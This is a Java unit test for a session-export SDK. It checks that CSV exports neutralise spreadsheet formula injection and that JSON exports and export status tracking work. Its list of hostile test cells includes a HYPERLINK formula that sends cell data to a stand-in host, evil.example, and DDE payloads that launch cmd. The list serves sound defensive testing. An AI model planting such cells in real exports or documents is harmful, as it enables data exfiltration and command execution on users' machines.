package io.github.discoverysdk.session;

import static io.github.discoverysdk.session.SessionWorld.ANA;
import static io.github.discoverysdk.session.SessionWorld.TENANT;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.github.discoverysdk.ValidationException;
import io.github.discoverysdk.session.catalogue.Catalogue;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class SessionExportsTest {
  /** Cells a spreadsheet or a naive CSV reader would mishandle. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "plain \"double quotes\", commas, and 'single'",
          "line one\nline two\r\nline three",
          "Ünïcödé ✓ 😀 中文 العربية",
          "trailing backslash \\",
          "x".repeat(1_048_576));

  private final SessionWorld w = new SessionWorld();

  @AfterEach
  void close() {
    w.close();
  }

  @Test
  void csvNeutralisesFormulasAndReadsBackWithTheSameLibrary() throws Exception {
    Catalogue own = Catalogue.load(getClass().getResourceAsStream("/session/text-catalogue.json"));
    try (SessionWorld hw = new SessionWorld(own)) {
      Session s = hw.sessions.start(ANA, TENANT, "ana", "acc-1", "Acme", "notes");
      for (int i = 0; i < HOSTILE.size(); i++) {
        hw.sessions.answer(ANA, TENANT, s.id(), "notes.q" + i, Answer.text(HOSTILE.get(i)), 0);
        if (HOSTILE.get(i).length() < 10_000) {
          hw.sessions
              .notes()
              .add(ANA, TENANT, s.id(), NoteType.RISK, HOSTILE.get(i), Optional.of("notes.q" + i));
        }
      }
      ExportResult csv = hw.sessions.exports().export(ANA, TENANT, s.id(), ExportFormat.CSV);
      assertThat(csv.export().status()).isEqualTo(ExportStatus.SUCCESS);
      assertThat(csv.export().exportedAt()).contains(hw.clock.instant());

      List<List<String>> rows = read(csv.content());
      assertThat(rows.get(0)).isEqualTo(SessionDocuments.CSV_COLUMNS);
      List<List<String>> responses =
          rows.stream().filter(r -> r.get(0).equals("response")).toList();
      List<List<String>> notes = rows.stream().filter(r -> r.get(0).equals("note")).toList();
      assertThat(responses).hasSize(HOSTILE.size());
      assertThat(notes).hasSize(HOSTILE.size() - 1);
      for (int i = 0; i < HOSTILE.size(); i++) {
        String cell = responses.get(i).get(4);
        assertThat(cell).as("cell %d", i).isEqualTo(expected(HOSTILE.get(i)));
        assertThat(cell.charAt(0)).isNotIn('=', '+', '-', '@', '\t', '\r');
      }
      for (List<String> note : notes) {
        assertThat(note.get(7).charAt(0)).isNotIn('=', '+', '-', '@', '\t', '\r');
        assertThat(note).hasSize(SessionDocuments.CSV_COLUMNS.size());
      }
      Map<String, String> noteByQuestion = new java.util.HashMap<>();
      notes.forEach(n -> noteByQuestion.put(n.get(1), n.get(7)));
      assertThat(noteByQuestion)
          .containsEntry("notes.q7", "line one\nline two\r\nline three")
          .containsEntry("notes.q8", "Ünïcödé ✓ 😀 中文 العربية")
          .containsEntry("notes.q0", "'" + HOSTILE.get(0));
    }
  }

  private static String expected(String cell) {
    char c = cell.charAt(0);
    return (c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r')
        ? "'" + cell
        : cell;
  }

  private static List<List<String>> read(String csv) throws Exception {
    CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    try (MappingIterator<List<String>> it =
        mapper
            .readerForListOf(String.class)
            .readValues(new ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)))) {
      while (it.hasNext()) {
        rows.add(it.next());
      }
    }
    return rows;
  }

  @Test
  void jsonHoldsTheWholeSessionAndTheExportIsTracked() throws Exception {
    Session s = w.start("acc-1", "security");
    w.sessions.answer(
        ANA,
        TENANT,
        s.id(),
        "security.endpoint",
        Answer.vendors(List.of("CrowdStrike", "Symantec"), List.of("HomeGrown EDR")),
        0);
    w.sessions.answer(
        ANA, TENANT, s.id(), "security.sizing", Answer.sizing(Map.of("endpoints", 4200.0)), 0);
    w.sessions
        .notes()
        .add(
            ANA,
            TENANT,
            s.id(),
            NoteType.OPPORTUNITY,
            "Consolidate EDR",
            Optional.of("security.endpoint"));

    ExportResult json = w.sessions.exports().export(ANA, TENANT, s.id(), ExportFormat.JSON);
    JsonNode doc = new ObjectMapper().readTree(json.content());
    assertThat(doc.path("session").path("id").asText()).isEqualTo(s.id());
    assertThat(doc.path("session").path("status").asText()).isEqualTo("IN_PROGRESS");
    JsonNode endpoint = doc.path("responses").get(0);
    assertThat(endpoint.path("questionId").asText()).isEqualTo("security.endpoint");
    assertThat(endpoint.path("answer").path("selected").toString())
        .isEqualTo("[\"CrowdStrike\",\"Broadcom\"]");
    assertThat(endpoint.path("answer").path("count").asInt()).isEqualTo(3);
    assertThat(doc.path("responses").get(1).path("answer").path("endpoints").asDouble())
        .isEqualTo(4200.0);
    assertThat(doc.path("notes").get(0).path("type").asText()).isEqualTo("OPPORTUNITY");
    assertThat(doc.path("notes").get(0).path("questionId").asText()).isEqualTo("security.endpoint");

    assertThat(w.sessions.exports().list(TENANT, s.id()))
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.format()).isEqualTo(ExportFormat.JSON);
              assertThat(e.status()).isEqualTo(ExportStatus.SUCCESS);
              assertThat(e.version()).isEqualTo(2);
            });
    assertThat(w.audit(SessionExports.ENTITY, s.id() + "/" + json.export().id()))
        .extracting(a -> a.changes().toString())
        .anyMatch(c -> c.contains("PENDING"))
        .anyMatch(c -> c.contains("SUCCESS"));
  }

  @Test
  void anExportEndsOnceAsSuccessOrFailureWithItsError() {
    Session s = w.start("acc-1", "security");
    SessionExport pending =
        w.sessions.exports().start(ANA, TENANT, s.id(), ExportFormat.SALESFORCE);
    assertThat(pending.status()).isEqualTo(ExportStatus.PENDING);
    SessionExport failed =
        w.sessions
            .exports()
            .failed(ANA, TENANT, pending.id(), pending.version(), "503 from Salesforce");
    assertThat(failed.status()).isEqualTo(ExportStatus.FAILED);
    assertThat(failed.error()).contains("503 from Salesforce");
    assertThatThrownBy(
            () ->
                w.sessions
                    .exports()
                    .succeeded(ANA, TENANT, pending.id(), failed.version(), Optional.of("00T1")))
        .isInstanceOf(ValidationException.class)
        .hasMessageContaining("only a pending export can end");
    assertThatThrownBy(
            () -> w.sessions.exports().export(ANA, TENANT, s.id(), ExportFormat.SALESFORCE))
        .isInstanceOf(ValidationException.class);
  }
}
